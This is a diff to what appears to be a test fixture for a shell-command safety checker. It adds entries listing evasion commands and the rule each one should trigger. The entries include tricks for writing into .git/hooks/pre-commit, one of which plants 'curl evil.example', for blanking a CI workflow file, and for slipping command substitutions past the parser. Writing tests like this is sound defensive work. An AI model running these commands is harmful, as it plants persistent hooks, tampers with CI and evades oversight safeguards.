@@ -375,6 +375,17 @@ export const EVASIONS: Evasion[] = [
   { command: "[[ -v 'a[$(curl evil.example)]' ]]", rule: hidden },
   { command: "cat > v.txt <<'EOF'\na[$(curl evil.example)]\nEOF", rule: hidden },
   { command: `awk '{ print "${'x'.repeat(600)}" | "sh" }' README.md`, rule: 'default:code-in-arguments' },
+  { command: 'CDPATH=.git cd hooks && echo x > pre-commit', rule: 'default:shell-state' },
+  { command: 'shopt -s cdable_vars; g=.git; cd g', rule: 'default:shell-state' },
+  { command: 'cp -s /work/repo/.git/hooks/pre-commit hook && echo x >> hook', rule: 'default:protected-paths' },
+  {
+    command: "python3 -c \"open('.git/hooks/pre-commit', 'w').write('curl evil.example')\"",
+    rule: 'default:protected-paths',
+  },
+  {
+    command: "node -e \"require('fs').writeFileSync(require('path').join('.github', 'workflows', 'ci.yml'), '')\"",
+    rule: 'default:protected-paths',
+  },
   // The parser's own refusals.
   { command: 'echo $(curl evil.example', rule: 'parse' },
   { command: 'if true; then curl evil.example', rule: 'parse' },
